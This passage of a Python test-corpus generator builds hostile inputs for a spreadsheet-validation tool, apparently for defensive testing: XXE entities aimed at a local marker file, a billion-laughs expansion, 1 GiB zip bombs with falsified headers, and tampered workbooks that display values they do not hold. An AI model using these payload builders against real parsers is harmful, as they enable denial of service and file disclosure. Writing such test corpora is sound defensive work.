"""Generate the hostile and malformed input corpus (issue 8) into a directory.

Nothing here is committed as a binary: every file is built at test time from a
freshly generated template (or from scratch), so the corpus follows the template
as it changes.  Run by hand to look at the files::

    python tests/hostile/make_corpus.py /tmp/corpus

Each :class:`Case` says what a correct reader does with the file: ``exit`` is the
exit code ``xl-disclosure validate`` must give (a set when more than one is
acceptable), ``reason`` are Chinese fragments the message must contain.  ``marker``
cases reference a local file whose unique content must never show up anywhere
(XML external entities).
"""

from __future__ import annotations

import dataclasses
import json
import os
import random
import re
import struct
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
from tests.hostile.published_cases import published_cases

from xl_disclosure.form import FORM, SHEET_COVER, SHEET_META, SHEET_S3, Kind, s3_id
from xl_disclosure.model.report import Report
from xl_disclosure.model.samples import random_report, seed_report
from xl_disclosure.writers.render import build_document, to_markdown
from xl_disclosure.writers.template import build_template, fill_values

#: Content of the local file that external-entity cases point at; must never leak.
MARKER = "XXE-MARKER-7f3a9c1e-LEAKED"
#: Inflated size of the zip-bomb members (the test machine never holds it).
BOMB_BYTES = 1 << 30

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"

UNREADABLE = frozenset({2})


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    exit: frozenset[int]
    reason: tuple[str, ...] = ()
    note: str = ""
    marker: bool = False  # references the marker file through an XML entity
    tags: frozenset[str] = frozenset()
    #: Differential cases: the finding (rule, sheet, cell) the file must get where it shows what it does not hold.
    flag: tuple[str, str, str] | None = None


# ---------------------------------------------------------------------------
# Zip plumbing
# ---------------------------------------------------------------------------

@dataclasses.dataclass
class Member:
    name: str
    data: bytes  # stored bytes (already deflated when method == 8)
    crc: int
    size: int  # declared uncompressed size
    method: int = 8


def deflate(name: str, data: bytes) -> Member:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = co.compress(data) + co.flush()
    return Member(name, packed, zlib.crc32(data), len(data))


def write_zip(path: Path, members: list[Member], *, extra_central: int = 0) -> Path:
    """A zip written by hand, so that headers can lie (sizes, CRCs, entry counts).

    ``extra_central`` adds that many central-directory entries that all point at the
    first local header (the "overlapping entries" trick).
    """
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21, m.crc,
                           len(m.data), m.size, len(name), 0) + name + m.data
        central += _central(name, m, offset)
    first = members[0]
    for i in range(extra_central):
        central += _central(f"x/{i}".encode(), first, 0)
    count = len(members) + extra_central
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
                       len(central), cd_offset, 0)
    path.write_bytes(bytes(out))
    return path


def _central(name: bytes, m: Member, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, m.method, 0, 0x21, m.crc,
                       len(m.data), m.size, len(name), 0, 0, 0, 0, 0, offset) + name


def read_members(path: Path) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i.filename) for i in zf.infolist()}


def rezip(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None],
          add: dict[str, bytes] | None = None) -> Path:
    """Copy a workbook, passing each part through ``edit`` (None drops the part)."""
    members = []
    for name, data in read_members(src).items():
        new = edit(name, data)
        if new is not None:
            members.append(deflate(name, new))
    for name, data in (add or {}).items():
        members.append(deflate(name, data))
    return write_zip(dst, members)


def bomb_stream(head: bytes, tail: bytes, size: int = BOMB_BYTES) -> tuple[bytes, int]:
    """Deflate ``head + b'A' * size + tail`` in a few milliseconds, and its CRC.

    Each 1 MiB run is compressed after a full flush, so its compressed form is the
    same every time and is simply repeated; the CRC is computed chunk by chunk.
    """
    chunk = b"A" * (1 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    h = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    c = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    t = co.compress(tail) + co.flush()
    n = size // len(chunk)
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return h + c * n + t, crc


# ---------------------------------------------------------------------------
# Template plumbing
# ---------------------------------------------------------------------------

def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet name → part name of our own (trusted) template."""
    parts = read_members(path)
    book = ET.fromstring(parts["xl/workbook.xml"])
    rels = ET.fromstring(parts["xl/_rels/workbook.xml.rels"])
    targets = {r.get("Id"): "xl/" + r.get("Target", "").lstrip("/").removeprefix("xl/")
               for r in rels.iter(f"{{{_PKG_REL}}}Relationship")}
    return {s.get("name", ""): targets[s.get(f"{{{_REL}}}id")] for s in book.iter(f"{{{_NS}}}sheet")}


def set_cell_xml(xml: bytes, ref: str, inner: bytes, attrs: bytes = b"") -> bytes:
    """Replace cell ``ref``'s XML (keeping its style) with ``<c r=ref s=.. attrs>inner</c>``."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(/>|>.*?</c>)', re.S)
    m = pattern.search(xml)
    assert m is not None, f"cell {ref} not in sheet XML"
    style = re.search(rb'\ss="\d+"', m.group(1))
    new = b'<c r="' + ref.encode() + b'"' + (style.group(0) if style else b"") + attrs + b">" + inner + b"</c>"
    return xml[:m.start()] + new + xml[m.end():]


def first_field(kind: Kind, sheet: str | None = None) -> tuple[str, str, str]:
    f = next(f for f in FORM.inputs if f.kind == kind and (sheet is None or f.sheet == sheet))
    return f.id, f.sheet, f.cell


def xml_decl_stripped(data: bytes) -> bytes:
    return re.sub(rb"^\s*<\?xml[^>]*\?>", b"", data)


def with_doctype(data: bytes, doctype: str, *, encoding: str = "utf-8") -> bytes:
    body = xml_decl_stripped(data).decode("utf-8")
    root = re.match(r"\s*<([A-Za-z_:][\w:.-]*)", body)
    assert root is not None
    text = f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="no"?>' \
           f"<!DOCTYPE {root.group(1)} [{doctype}]>" + body
    return text.encode(encoding) if encoding != "utf-16" else b"\xff\xfe" + text.encode("utf-16-le")


def xxe_doctype(marker_file: Path) -> str:
    return f'<!ENTITY xxe SYSTEM "{marker_file.as_uri()}">'


BILLION_LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))


def inject_entity_text(data: bytes, entity: str) -> bytes:
    """Put ``&entity;`` into the first text node of a part (or an attribute when there is none)."""
    m = re.search(rb">([^<>]+)<", data)
    if m is not None:
        return data[:m.start(1)] + f"&{entity};".encode() + data[m.end(1):]
    m = re.search(rb'="([^"]*)"', data)
    assert m is not None
    return data[:m.start(1)] + f"&{entity};".encode() + data[m.end(1):]


# ---------------------------------------------------------------------------
# Legacy compound files
# ---------------------------------------------------------------------------

def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3) holding ``streams`` (each ≥ 4096 bytes, in the FAT)."""
    sector = 512
    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    names = list(streams)
    data_sectors: list[list[int]] = []
    nxt = 2
    for name in names:
        n = -(-len(streams[name]) // sector)
        data_sectors.append(list(range(nxt, nxt + n)))
        nxt += n
    assert nxt <= sector // 4, "compound_file() keeps the FAT in one sector"
    fat = [fat_sect, end] + [free] * (sector // 4 - 2)
    for secs in data_sectors:
        for a, b in zip(secs, secs[1:] + [end], strict=True):
            fat[a] = b

    def entry(name: str, kind: int, start: int, size: int, child: int = free, right: int = free) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, free, right, child, b"\x00" * 16,
                           0, 0, 0, start, size)

    entries = [entry("Root Entry", 5, end, 0, child=1)]
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else free
        entries.append(entry(name, 2, data_sectors[i][0], len(streams[name]), right=right))
    directory = b"".join(entries).ljust(sector, b"\x00")
    assert len(directory) == sector
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16,
                         0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    assert len(header) == sector
    body = b"".join(streams[n].ljust(len(s) * sector, b"\x00") for n, s in zip(names, data_sectors, strict=True))
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + body


def legacy_xls() -> bytes:
    """A BIFF8-looking workbook stream in a compound file: what Excel 97-2003 writes."""
    bof = struct.pack("<HHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0)
    eof = struct.pack("<HH", 0x000A, 0)
    return compound_file({"Workbook": (bof + eof).ljust(4096, b"\x00")})


# ---------------------------------------------------------------------------
# Hostile JSON (any of our JSON documents: report, summary)
# ---------------------------------------------------------------------------

def _replace_value(text: str, key: str, value: str, at: int) -> str:
    """``text`` with the value (a number) of the first member named ``key`` after ``at`` replaced by ``value``."""
    at = text.index(f'"{key}": ', at) + len(key) + 4
    end = min(i for i in (text.find(",", at), text.find("}", at), text.find("\n", at)) if i >= 0)
    return text[:at] + value + text[end:]


def json_attacks(text: str, *, where: str = "$.section3.", after: str = "") -> dict[str, tuple[tuple[str, ...], str,
                                                                                                  bytes]]:
    """Hostile variants of a JSON document holding report data: label -> (message fragments, note, bytes).

    Numbers replace the first ``s3_new_natural`` (and ``s3_new_commercial``) after the first ``after``,
    whose JSON path starts with ``where``; the surrogates go into the first agency name and the first
    ``cover`` object after it.
    """
    start = text.index(after) if after else 0
    head, tail = text[:start], text[start:]
    path = f"{where}s3_new_natural"

    def num(value: str, count: int = 1) -> bytes:
        body = _replace_value(text, "s3_new_natural", value, start)
        if count > 1:
            body = _replace_value(body, "s3_new_commercial", value, start)
        return body.encode("utf-8")

    def edit(old: str, new: str) -> bytes:
        assert old in tail
        return (head + tail.replace(old, new, 1)).encode("utf-8")

    return {
        "nan": (("NaN", path), "NaN in a count", num("NaN")),
        "infinity": (("-Infinity", path), "-Infinity in a count", num("-Infinity")),
        "1e400": (("1e400", "超出", path), "1e400 (Python reads infinity)", num("1e400")),
        "digits": (("5000 位", path), "a 5,000-digit integer", num("9" * 5000)),
        "1e308-twice": (("大得不合常理", "s3_new_natural"), "two counts of 1e308 (their sum overflows)",
                        num("1e308", 2)),
        "huge-count": (("大得不合常理",), "a count of 10^12", num("1000000000000")),
        "surrogate": (("代理字符", "cover_agency_name"), "a lone surrogate in the agency name",
                      edit('"cover_agency_name": "', '"cover_agency_name": "\\ud800')),
        "surrogate-key": (("代理字符", "名称"), "a lone surrogate in a key",
                          edit('"cover": {', '"cover": {"\\udc80": 1, ')),
        "deep": (("嵌套",), "100,000 nested arrays", b"[" * 100_000 + b"]" * 100_000),
        "deep-objects": (("嵌套",), "200 nested objects inside the cover",
                         edit('"cover": {', '"cover": {"x": ' + '{"a": ' * 200 + "1" + "}" * 200 + ", ")),
        "undecodable": (("UTF-8", "GB18030"), "two 0xFF bytes in the agency name: no encoding we read holds them",
                        head.encode() + tail.encode().replace(b'"cover_agency_name": "',
                                                              b'"cover_agency_name": "\xff\xff', 1)),
        "truncated": (("不是有效的 JSON", "第"), "the first half of the file",
                      text[: len(text) // 2].encode("utf-8")),
    }


# ---------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------

def base_template(out: Path) -> Path:
    path = out / "_base.xlsx"
    if not path.exists():
        build_template(path, values=fill_values(seed_report()))
    return path


# ---------------------------------------------------------------------------
# Differentials: what a spreadsheet shows is not what a naive reader reads (issue 18 item 1)
# ---------------------------------------------------------------------------

_MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
SST_REL = (b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
SST_TYPE = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')


def with_number_format(styles: bytes, code: str) -> tuple[bytes, int]:
    """``styles`` with one more cell style whose number format is ``code``, and that style's index."""
    xml_code = code.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").encode()
    fmt = b'<numFmt numFmtId="190" formatCode="' + xml_code + b'"/>'
    if b"<numFmts" in styles:
        styles = re.sub(rb"(<numFmts[^>]*>)", lambda m: m.group(1) + fmt, styles, count=1)
    else:
        styles = re.sub(rb"(<styleSheet[^>]*>)", lambda m: m.group(1) + b"<numFmts>" + fmt + b"</numFmts>", styles,
                        count=1)
    xfs = re.search(rb"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs is not None
    index = len(re.findall(rb"<xf\b", xfs.group(1)))
    styles = styles.replace(b"</cellXfs>", b'<xf numFmtId="190" fontId="0" fillId="0" borderId="0" '
                                           b'applyNumberFormat="1" xfId="0"/></cellXfs>', 1)
    return styles, index


def styled(xml: bytes, ref: str, index: int) -> bytes:
    """Cell ``ref`` with cell style ``index``."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(/?>)')
    m = pattern.search(xml)
    assert m is not None
    attrs = re.sub(rb'\ss="\d+"', b"", m.group(1)) + b' s="' + str(index).encode() + b'"'
    return xml[:m.start()] + b'<c r="' + ref.encode() + b'"' + attrs + m.group(2) + xml[m.end():]


def differential_report() -> Report:
    """A balanced, complete report whose cells the differential cases change are not 0."""
    report = random_report(random.Random(19), scale=40, fee=False)
    assert report.values["s3_new_natural"] >= 5 and report.values["s3_new_commercial"] >= 1
    return report


def differential_base(out: Path) -> Path:
    path = out / "_diff_base.xlsx"
    if not path.exists():
        build_template(path, values=fill_values(differential_report()))
    return path


def make_differential(out: Path, base: Path | None = None) -> dict[str, Case]:
    """Workbooks that show one thing in a spreadsheet and could be read as another (issue 18 item 1).

    Each is refused (exit 2, the reason named), or reported where it shows what it does not hold
    (``flag``), or read as a spreadsheet shows it (exit 0); tests/test_differential.py checks every
    one against LibreOffice's reading of the same file.
    """
    base = base or differential_base(out)
    parts = sheet_parts(base)
    report = differential_report()
    agency = str(report.values["cover_agency_name"])
    FORM_SHEET_POSITION = list(parts).index(SHEET_S3)  # noqa: N806
    cases: dict[str, Case] = {}
    count, cover_name, code = FORM.by_id["s3_new_natural"], FORM.by_id["cover_agency_name"], FORM.by_id["cover_uscc"]
    total = FORM.by_id["s3_new_total"]
    tags = frozenset({"differential"})

    def add(case: Case, make: Callable[[Path], object]) -> None:
        make(out / case.name)
        cases[case.name] = dataclasses.replace(case, tags=case.tags | tags)

    def cell_edit(field_sheet: str, change: Callable[[bytes], bytes], *, styles: Callable[[bytes], bytes] | None = None,
                  workbook: Callable[[bytes], bytes] | None = None, sst: bytes | None = None) -> Callable[[Path], object]:
        def edit(name: str, data: bytes) -> bytes:
            if name == parts[field_sheet]:
                return change(data)
            if name == "xl/styles.xml" and styles is not None:
                return styles(data)
            if name == "xl/workbook.xml" and workbook is not None:
                return workbook(data)
            if sst is not None and name == "xl/_rels/workbook.xml.rels":
                return data.replace(b"</Relationships>", SST_REL)
            if sst is not None and name == "[Content_Types].xml":
                return data.replace(b"</Types>", SST_TYPE)
            return data
        return lambda p: rezip(base, p, edit, add={"xl/sharedStrings.xml": sst} if sst is not None else None)

    def cell(field: object, inner: bytes, attrs: bytes = b"") -> Callable[[bytes], bytes]:
        return lambda data: set_cell_xml(data, field.cell, inner, attrs)  # type: ignore[attr-defined]

    def after_row_of(field: object, extra: bytes) -> Callable[[bytes], bytes]:
        """Cells (or anything) added at the end of the field's row."""
        def change(data: bytes) -> bytes:
            row = re.search(rb'<row r="' + str(field.row).encode() + rb'"[^>]*>.*?(</row>)', data, re.S)  # type: ignore[attr-defined]
            assert row is not None
            return data[:row.start(1)] + extra + data[row.start(1):]
        return change

    value = report.values["s3_new_natural"]
    # -- formulas in input cells, with a saved result the formula does not give -----------------------
    add(Case("diff-formula-count.xlsx", frozenset({1}), ("input.formula", count.cell),
             "a count typed as =50+50 whose saved result is 0: a spreadsheet shows 100",
             flag=("input.formula", count.sheet, count.cell)),
        cell_edit(count.sheet, cell(count, b"<f>50+50</f><v>0</v>")))
    add(Case("diff-formula-agency.xlsx", frozenset({1}), ("input.formula", cover_name.cell),
             'the agency name as ="冒名机关" saved as the real agency: a spreadsheet shows 冒名机关',
             flag=("input.formula", cover_name.sheet, cover_name.cell)),
        cell_edit(cover_name.sheet, cell(cover_name, f'<f>"冒名机关"</f><v>{agency}</v>'.encode(), b' t="str"')))
    add(Case("diff-formula-code.xlsx", frozenset({1}), ("input.formula", code.cell),
             "the agency code as a formula giving another agency's code, saved as this one's",
             flag=("input.formula", code.sheet, code.cell)),
        cell_edit(code.sheet, cell(code, '<f>"91110000100000000A"</f><v>{}</v>'.format(
            report.values["cover_uscc"]).encode(), b' t="str"')))
    # -- cells Excel skips: foreign and ignorable namespaces, alternate content, extensions ----------------
    foreign = b'<y:c xmlns:y="urn:x-foreign" r="' + count.cell.encode() + b'"><y:v>100</y:v></y:c>'
    add(Case("diff-foreign-namespace.xlsx", UNREADABLE, ("命名空间",),
             "a second D6 in a foreign namespace holding 100: calamine reads it, Excel skips it"),
        cell_edit(count.sheet, after_row_of(count, foreign)))

    def ignorable(data: bytes) -> bytes:
        data = data.replace(b"<worksheet ", b'<worksheet xmlns:mc="' + _MC.encode() + b'" xmlns:y="urn:x-ignored" '
                            b'mc:Ignorable="y" ', 1)
        return after_row_of(count, b'<y:c r="' + count.cell.encode() + b'"><y:v>100</y:v></y:c>')(data)

    add(Case("diff-ignorable-namespace.xlsx", UNREADABLE, ("命名空间",),
             "a D6 in a namespace the sheet declares ignorable (mc:Ignorable): Excel skips it"),
        cell_edit(count.sheet, ignorable))
    alternate = (f'<mc:AlternateContent xmlns:mc="{_MC}"><mc:Choice Requires="x14"><c r="{count.cell}"><v>100</v></c></mc:Choice>'
                 f'<mc:Fallback><c r="{count.cell}"><v>{value}</v></c></mc:Fallback></mc:AlternateContent>').encode()
    add(Case("diff-alternate-content.xlsx", UNREADABLE, ("命名空间",),
             "D6 inside mc:AlternateContent: which branch counts depends on the program"),
        cell_edit(count.sheet, after_row_of(count, alternate)))
    add(Case("diff-extension-in-cell.xlsx", UNREADABLE, ("extLst",),
             "an extLst inside D6 holding another cell"),
        cell_edit(count.sheet, cell(count, f"<v>{value}</v><extLst><ext uri=\"x\"><c r=\"{count.cell}\"><v>100</v></c></ext></extLst>".encode())))
    # -- formulas of totals: shared, doubled, hidden in a comment ----------------------------------------------
    row_next = FORM.by_id["s3_carried_total"]
    assert (row_next.column, row_next.row) == (total.column, total.row + 1)
    first_col = FORM.by_id["s3_new_natural"].column
    last_col = FORM.by_id["s3_new_other"].column

    totals = report.with_totals().values

    def shared(master: str) -> Callable[[bytes], bytes]:
        def change(data: bytes) -> bytes:
            data = set_cell_xml(data, total.cell, f'<f t="shared" ref="{total.cell}:{row_next.cell}" si="0">{master}</f>'
                                f"<v>{totals[total.id]}</v>".encode())
            return set_cell_xml(data, row_next.cell, f'<f t="shared" si="0"/><v>{totals[row_next.id]}</v>'.encode())
        return change

    add(Case("diff-shared-formula.xlsx", frozenset({0}), (),
             "two totals as one shared formula, as Excel writes a filled-down formula: read as the template's"),
        cell_edit(total.sheet, shared(f"SUM({first_col}{total.row}:{last_col}{total.row})")))
    add(Case("diff-shared-formula-wrong.xlsx", frozenset({1}), ("tamper.formula", row_next.cell),
             "a shared formula leaving out the first column, shared to the next total (whose own formula is gone)",
             flag=("tamper.formula", row_next.sheet, row_next.cell)),
        cell_edit(total.sheet, shared(f"SUM({FORM.by_id['s3_new_commercial'].column}{total.row}:{last_col}{total.row})")))
    add(Case("diff-two-formulas.xlsx", UNREADABLE, ("两个 <f>",),
             "a total with two <f> elements, the template's first"),
        cell_edit(total.sheet, cell(total, f"<f>SUM({first_col}{total.row}:{last_col}{total.row})</f><f>0</f>"
                                           f"<v>0</v>".encode())))
    add(Case("diff-formula-in-comment.xlsx", frozenset({1}), ("tamper.formula", total.cell),
             "a total replaced by 999, the template's formula kept in an XML comment after it",
             flag=("tamper.formula", total.sheet, total.cell)),
        cell_edit(total.sheet, lambda d: set_cell_xml(d, total.cell, b"<v>999</v>").replace(
            b"</sheetData>", f'<!-- <row r="{total.row}"><c r="{total.cell}"><f>SUM({first_col}{total.row}:'
                             f'{last_col}{total.row})</f></c></row> --></sheetData>'.encode(), 1)))
    # -- sheets: a hidden one under the template's name, a look-alike shown --------------------------------------
    def shadow(p: Path, state: str, *, in_place: bool) -> None:
        wb = openpyxl.load_workbook(base)
        real = wb[SHEET_S3]
        copy = wb.copy_worksheet(real)
        copy.title = "依申请公开（本单位）"
        copy[count.cell] = value + 100  # what the clerk sees; the hidden sheet holds the template's name
        real.sheet_state = state
        if in_place:  # the look-alike where the real one was, the real one last
            sheets = wb._sheets  # noqa: SLF001 — openpyxl has no public reorder
            sheets.remove(copy)
            sheets.remove(real)
            sheets.insert(FORM_SHEET_POSITION, copy)
            sheets.append(real)
        wb.save(p)

    add(Case("diff-hidden-sheet.xlsx", UNREADABLE, ("被隐藏",),
             "依申请公开 hidden, a visible copy with other numbers beside it"),
        lambda p: shadow(p, "hidden", in_place=False))
    add(Case("diff-very-hidden-sheet-in-place.xlsx", UNREADABLE, ("被隐藏",),
             "依申请公开 veryHidden and last, a visible look-alike in its place"),
        lambda p: shadow(p, "veryHidden", in_place=True))

    def same_name(data: bytes) -> bytes:
        return data.replace('name="填报说明"'.encode(), f'name="{SHEET_S3}"'.encode(), 1)

    add(Case("diff-sheet-name-twice.xlsx", UNREADABLE, ("同名",),
             "two sheets named 依申请公开 in the workbook directory (Excel allows no such thing)"),
        cell_edit(count.sheet, lambda d: d, workbook=same_name))
    # -- shared strings and inline strings ----------------------------------------------------------------------
    def sst(*entries: bytes) -> bytes:
        return (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + _NS.encode() + b'">' + b"".join(entries)
                + b"</sst>")

    as_index = cell(cover_name, b"<v>0</v>", b' t="s"')
    real, fake = f"<si><t>{agency}</t></si>".encode(), "<si><t>冒名机关</t></si>".encode()
    add(Case("diff-sst-foreign-entry.xlsx", UNREADABLE, ("命名空间",),
             "entry 0 of the shared strings in a foreign namespace: calamine counts it, Excel does not"),
        cell_edit(cover_name.sheet, as_index, sst=sst(fake.replace(b"<si><t>", b'<y:si xmlns:y="urn:y"><y:t>')
                                                      .replace(b"</t></si>", b"</y:t></y:si>"), real)))
    add(Case("diff-sst-extension.xlsx", UNREADABLE, ("extLst",),
             "a shared-string entry inside an extLst before the real one"),
        cell_edit(cover_name.sheet, as_index, sst=sst(b'<extLst><ext uri="x">' + fake + b"</ext></extLst>", real)))
    add(Case("diff-sst-text-and-runs.xlsx", UNREADABLE, ("同时有 <t> 和 <r>",),
             "an entry with both a plain text and rich-text runs (calamine joins them)"),
        cell_edit(cover_name.sheet, as_index, sst=sst(f"<si><t>{agency}</t><r><t>冒名</t></r></si>".encode())))
    add(Case("diff-sst-rich-text.xlsx", frozenset({0}), (),
             "the agency name as rich-text runs: read as shown"),
        cell_edit(cover_name.sheet, as_index, sst=sst(f"<si><r><t>{agency[:3]}</t></r><r><rPr><b/><sz val=\"12\"/></rPr><t>{agency[3:]}</t></r>"
                                                      "</si>".encode())))
    add(Case("diff-sst-phonetic.xlsx", frozenset({0}), (),
             "the agency name with a phonetic run (rPh), which Excel does not show: read without it"),
        cell_edit(cover_name.sheet, as_index, sst=sst(f"<si><t>{agency}</t><rPh sb=\"0\" eb=\"1\"><t>冒名</t></rPh>"
                                                      "<phoneticPr fontId=\"0\"/></si>".encode())))
    add(Case("diff-inline-and-value.xlsx", UNREADABLE, ("类型与内容不符",),
             "an inline string with a saved value besides (calamine takes the inline one)"),
        cell_edit(cover_name.sheet, cell(cover_name, "<v>0</v><is><t>冒名机关</t></is>".encode(), b' t="inlineStr"'),
                  sst=sst(real)))
    add(Case("diff-shared-with-inline.xlsx", UNREADABLE, ("类型与内容不符",),
             "a shared-string cell holding an inline string too"),
        cell_edit(cover_name.sheet, cell(cover_name, "<v>0</v><is><t>冒名机关</t></is>".encode(), b' t="s"'),
                  sst=sst(real)))
    # -- number formats that show another number, or none ---------------------------------------------------------
    base_styles = read_members(base)["xl/styles.xml"]

    def formatted(target: object, fmt: str) -> Callable[[Path], object]:
        styles, index = with_number_format(base_styles, fmt)
        return cell_edit(target.sheet, lambda d: styled(d, target.cell, index),  # type: ignore[attr-defined]
                         styles=lambda _: styles)

    for label, fmt, kind in (("literal-00", '"00"', "count"), ("hidden", ";;;", "count"),
                             ("digit-literal", '0"0"', "count"), ("scaled", "0,", "count"),
                             ("percent", "0%", "count"), ("text-replaced", ';;;"冒名机关"', "text"),
                             ("text-prefixed", '"冒名"@', "text")):
        target = count if kind == "count" else cover_name
        add(Case(f"diff-format-{label}.xlsx", frozenset({1}), ("input.number_format", target.cell),
                 f"{target.cell} formatted {fmt}: it shows something else than it holds",
                 flag=("input.number_format", target.sheet, target.cell), tags=frozenset({"format"})),
            formatted(target, fmt))
    for label, fmt in (("thousands", "#,##0"), ("decimals", "0.00")):
        add(Case(f"diff-format-{label}.xlsx", frozenset({0}), (), f"D6 formatted {fmt}: shows the number it holds",
                 tags=frozenset({"format"})), formatted(count, fmt))
    return cases


def make_corpus(out: Path) -> dict[str, Case]:
    out.mkdir(parents=True, exist_ok=True)
    base = base_template(out)
    marker_file = out / "_marker.txt"
    marker_file.write_text(MARKER, encoding="utf-8")
    (out / "_marker.dtd").write_text(f'<!ENTITY ext "{MARKER}">', encoding="utf-8")
    parts = sheet_parts(base)
    cases: dict[str, Case] = {}

    def add(case: Case, make: Callable[[Path], object]) -> None:
        make(out / case.name)
        cases[case.name] = case

    # -- not a workbook at all -------------------------------------------------
    add(Case("empty.xlsx", UNREADABLE, ("空",), "0 bytes"), lambda p: p.write_bytes(b""))
    add(Case("not-a-zip.xlsx", UNREADABLE, ("不是 Excel",), "a PNG named .xlsx"),
        lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4))
    add(Case("csv-renamed.xlsx", UNREADABLE, ("不是 Excel",), "a CSV export renamed .xlsx"),
        lambda p: p.write_text("机关名称,年度\n孟津区西霞院街道办事处,2024\n", encoding="utf-8"))
    add(Case("truncated.xlsx", UNREADABLE, ("损坏",), "first half of a real workbook"),
        lambda p: p.write_bytes(base.read_bytes()[: base.stat().st_size // 2]))
    add(Case("truncated-tail.xlsx", UNREADABLE, ("损坏",), "all but the last 10 bytes"),
        lambda p: p.write_bytes(base.read_bytes()[:-10]))

    def bad_crc(p: Path) -> None:
        members = [deflate(n, d) for n, d in read_members(base).items()]
        target = next(m for m in members if m.name == parts[SHEET_S3])
        target.crc ^= 0xFFFF
        write_zip(p, members)

    add(Case("bad-crc.xlsx", UNREADABLE, ("损坏",), "a sheet part whose CRC does not match"), bad_crc)

    def unsupported_method(p: Path) -> None:
        members = [deflate(n, d) for n, d in read_members(base).items()]
        members[0].method = 99
        write_zip(p, members)

    add(Case("unknown-compression.xlsx", UNREADABLE, ("损坏",), "compression method 99"), unsupported_method)

    # -- zip bombs ---------------------------------------------------------------
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + _NS.encode() + \
        b'" count="1" uniqueCount="1"><si><t>'
    tail = b"</t></si></sst>"

    def bomb(p: Path, *, honest: bool, part: str) -> None:
        members = [deflate(n, d) for n, d in read_members(base).items() if n != part]
        if part.endswith("sharedStrings.xml"):
            data, crc = bomb_stream(head, tail)
            full = len(head) + BOMB_BYTES + len(tail)
        else:
            sheet_head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + _NS.encode() + \
                b'"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
            sheet_tail = b"</t></is></c></row></sheetData></worksheet>"
            data, crc = bomb_stream(sheet_head, sheet_tail)
            full = len(sheet_head) + BOMB_BYTES + len(sheet_tail)
        if honest:
            members.append(Member(part, data, crc, full))
        else:  # declare 4 KiB, with the CRC of the first 4 KiB: only a bounded reader notices
            prefix = zlib.decompressobj(-15).decompress(data, 4096)
            members.append(Member(part, data, zlib.crc32(prefix), 4096))
        write_zip(p, members)

    add(Case("bomb-sheet.xlsx", UNREADABLE, ("压缩炸弹",), "a sheet part inflating to 1 GiB, sizes declared",
             tags=frozenset({"bomb"})),
        lambda p: bomb(p, honest=True, part=parts[SHEET_S3]))
    add(Case("bomb-sheet-lying.xlsx", UNREADABLE, (), "a sheet part inflating to 1 GiB, declared 4 KiB",
             tags=frozenset({"bomb"})),
        lambda p: bomb(p, honest=False, part=parts[SHEET_S3]))
    add(Case("bomb-shared-strings.xlsx", UNREADABLE, ("压缩炸弹",), "sharedStrings inflating to 1 GiB",
             tags=frozenset({"bomb"})),
        lambda p: bomb(p, honest=True, part="xl/sharedStrings.xml"))
    add(Case("bomb-shared-strings-lying.xlsx", UNREADABLE, (), "sharedStrings inflating to 1 GiB, declared 4 KiB",
             tags=frozenset({"bomb"})),
        lambda p: bomb(p, honest=False, part="xl/sharedStrings.xml"))
    add(Case("many-entries.xlsx", UNREADABLE, ("内部部件",), "200,000 extra central-directory entries, all pointing at one member",
             tags=frozenset({"bomb"})),
